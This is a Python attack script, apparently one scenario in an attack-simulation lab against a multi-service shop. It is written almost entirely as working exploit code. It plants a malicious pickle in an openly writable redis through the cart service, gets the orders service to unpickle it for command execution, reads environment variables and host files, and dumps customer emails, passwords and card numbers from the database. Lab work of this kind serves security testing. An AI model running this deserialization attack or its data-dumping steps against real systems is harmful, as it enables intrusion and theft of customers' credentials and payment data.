#!/usr/bin/python3 -B
"""Credential theft and lateral movement: from cart through redis into orders, with its password
into the database. orders keeps pickles in redis, and redis lets everybody write
(CWE-502, T1021)."""

import base64
import pickle
import subprocess

from attack import Attack

STEAL = """python3 -c "
import os, psycopg2
cursor = psycopg2.connect(os.environ['DATABASE']).cursor()
cursor.execute('SELECT mail, password, card FROM customers ORDER BY id LIMIT 400')
print(*cursor.fetchall(), sep=chr(10))"
"""
# What redis is told, in its own protocol, over a connection of the intruder's.
WRITE = """
const data = Buffer.from('%s', 'base64'), to = require('net').connect(6379, 'redis');
to.write('*5\\r\\n$3\\r\\nSET\\r\\n$13\\r\\norder:%d\\r\\n$' + data.length + '\\r\\n');
to.write(data);
to.write('\\r\\n$2\\r\\nEX\\r\\n$2\\r\\n60\\r\\n');
return new Promise((done) => to.once('data', (said) => { to.destroy(); done(String(said)); }));
"""


class _Run:
    """A pickle that runs a command when it is unpacked."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return subprocess.getoutput, (self.command,)


def in_orders(attack: Attack, number: int, command: str) -> str:
    """Through cart's process, redis and orders' cache."""
    data = base64.b64encode(pickle.dumps(_Run(command), 2)).decode()
    attack.cart_code(WRITE % (data, number))
    return attack.ask("GET", f"/orders/{number}")[1]


def run(attack: Attack) -> bool:
    attack.cart("env; cat /etc/hosts; cat /app/cart.js | head -20")
    found = in_orders(attack, 7000001, "hostname; id; env")
    attack.replicas["orders"] = found.split("\n")[0]
    customers = in_orders(attack, 7000002, STEAL)
    return attack.prove("password=" in found and "customer300@" in customers, customers=customers,
                        rows=customers.count("@"))


Attack("T1552.007, T1021, T1213", ["edge", "cart", "redis", "orders", "db"],
       ["redis", "orders' environment", "customers"], entry="cart").main(run)
